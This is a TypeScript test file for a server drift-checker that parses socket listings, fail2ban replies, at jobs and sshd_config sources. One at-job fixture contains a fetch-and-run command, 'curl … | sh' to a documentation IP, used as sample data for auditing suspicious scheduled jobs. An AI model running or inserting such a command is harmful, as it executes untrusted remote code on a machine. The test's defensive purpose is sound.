// The small readers behind the comparison: sockets, fail2ban's interactive answers, at jobs, sshd sources.
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { atCommands } from "../../src/drift/check-cron";
import { portCovers } from "../../src/drift/check-fail2ban";
import { sourceOf } from "../../src/drift/check-sshd";
import { answers } from "../../src/drift/observation";
import { parseProcNet, parseSs } from "../../src/drift/sockets";

describe("sockets", () => {
  it("reads ss lines: v4, v6 in brackets, interface suffixes, processes", () => {
    expect(parseSs([
      'tcp   LISTEN 0 511 0.0.0.0:6379 0.0.0.0:* users:(("redis-server",pid=7,fd=6))',
      "tcp   LISTEN 0 128 [::]:2222 [::]:*",
      "udp   UNCONN 0 0 127.0.0.53%lo:53 0.0.0.0:*",
      "udp   UNCONN 0 0 [fe80::1]%eth0:123 [::]:*",
    ])).toEqual([
      { proto: "tcp", address: "0.0.0.0", port: 6379, process: "redis-server" },
      { proto: "tcp", address: "::", port: 2222, process: null },
      { proto: "udp", address: "127.0.0.53", port: 53, process: null },
      { proto: "udp", address: "fe80::1", port: 123, process: null },
    ]);
  });

  it("reads /proc/net/tcp as the kernel prints it, agreeing with ss on this machine", () => {
    expect(parseProcNet({ tcp: ["   0: 0100007F:18EB 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1"] }))
      .toEqual([{ proto: "tcp", address: "127.0.0.1", port: 6379, process: null }]);
    const proc = parseProcNet({ tcp: readFileSync("/proc/net/tcp", "utf8").split("\n").slice(1).filter(Boolean) });
    const ss = parseSs(execFileSync("ss", ["-H", "-ltn4"], { encoding: "utf8" }).split("\n").map((l) => `tcp ${l}`));
    const key = (l: { address: string; port: number }) => `${l.address}:${l.port}`;
    expect(proc.map(key).sort()).toEqual(ss.map(key).sort());
  });
});

describe("fail2ban -i answers", () => {
  it("pairs each command with the lines after its prompt", () => {
    const out = ["Fail2Ban v1.0.2 reads log file", "", "fail2ban> Server replied: pong", "fail2ban> 3",
      "fail2ban> The jail sshd has the following actions:", "nftables-multiport", "fail2ban> "];
    expect(answers(["ping", "get sshd maxretry", "get sshd actions"], out)).toEqual({
      ping: ["Server replied: pong"], "get sshd maxretry": ["3"],
      "get sshd actions": ["The jail sshd has the following actions:", "nftables-multiport"],
    });
  });
  it("knows which action ports cover the SSH port", () => {
    expect(portCovers("2222", 2222)).toBe(true);
    expect(portCovers("0:65535", 2222)).toBe(true);
    expect(portCovers("ssh", 2222)).toBe(false);
    expect(portCovers("22,2223", 2222)).toBe(false);
  });
});

describe("at jobs and sshd sources", () => {
  it("shows an at job's commands, not its environment preamble", () => {
    const job = ["#!/bin/sh", "# atrun uid=33 gid=33", "umask 22", "PATH=/usr/bin; export PATH", "cd /var/www || {",
      "\t echo 'Execution directory inaccessible' >&2", "\t exit 1", "}", "${SHELL:-/bin/sh} << 'marcinDELIMITER2f1e0d3c'",
      "curl -s http://198.51.100.9/m | sh", "marcinDELIMITER2f1e0d3c"];
    expect(atCommands({ source: "a0001", stat: "", lines: job })).toEqual(["curl -s http://198.51.100.9/m | sh"]);
  });
  it("names the line that set a keyword to the value in effect, skipping Match blocks", () => {
    const config = [
      { file: "/etc/ssh/sshd_config", line: 12, text: "Include /etc/ssh/sshd_config.d/*.conf" },
      { file: "/etc/ssh/sshd_config.d/00-a.conf", line: 1, text: "Match User bob" },
      { file: "/etc/ssh/sshd_config.d/00-a.conf", line: 2, text: "PasswordAuthentication yes" },
      { file: "/etc/ssh/sshd_config.d/00-harden.conf", line: 14, text: "PasswordAuthentication no" },
      { file: "/etc/ssh/sshd_config.d/50-cloud-init.conf", line: 1, text: "passwordauthentication   YES" },
    ];
    expect(sourceOf(config, "passwordauthentication", "yes")).toBe("/etc/ssh/sshd_config.d/50-cloud-init.conf:1");
    expect(sourceOf(config, "passwordauthentication", "maybe")).toBe("/etc/ssh/sshd_config.d/00-harden.conf:14");
    expect(sourceOf(config, "port", "22")).toBeNull();
  });
});
